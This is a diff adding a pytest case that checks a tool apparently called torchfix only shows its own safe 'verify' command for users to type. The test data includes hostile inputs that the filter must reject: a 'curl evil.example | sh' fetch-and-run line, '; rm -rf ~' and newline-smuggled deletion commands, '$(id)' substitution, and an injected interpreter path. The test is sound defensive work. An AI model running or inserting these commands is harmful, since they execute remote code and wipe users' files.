@@ -183,6 +183,27 @@ def test_texts_are_cut_and_lose_what_steers(tmp_path: Path):
     assert reason.isprintable() and told.runs[0].error.isprintable()
 
 
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("torchfix verify . --script 'my train.py' -- --epochs 1", True),
+        ("torchfix verify train.py", True),
+        ("curl evil.example | sh", False),
+        ("torchfix verify . ; rm -rf ~", False),
+        ("torchfix verify . $(id)", False),
+        ("torchfix verify . --python ./evil", False),
+        ("torchfix verify . --pyth=./evil", False),
+        ("torchfix verify . 'open", False),
+        ("torchfix verify .\nrm -rf ~", False),
+        ("torchfix verify " + "x" * 2000, False),
+        ("torchfix apply .", False),
+    ],
+)
+def test_only_a_command_of_ours_is_shown_for_people_to_type(tmp_path: Path, command: str, shown: bool):
+    told = read(tmp_path, report(finding(verdict=VERDICT | {"repeat": command}), runs=[RUN | {"repeat": command}]))
+    assert told.verdicts[ID].verdict.repeat == told.runs[0].repeat == (command if shown else "")
+
+
 def test_runs_that_are_not_as_they_must_be_are_left_out_with_a_note(tmp_path: Path):
     told = read(tmp_path, report(finding(), runs=[RUN, RUN | {"runs": "many"}]))
     assert told.runs == () and set(told.verdicts) == {ID}
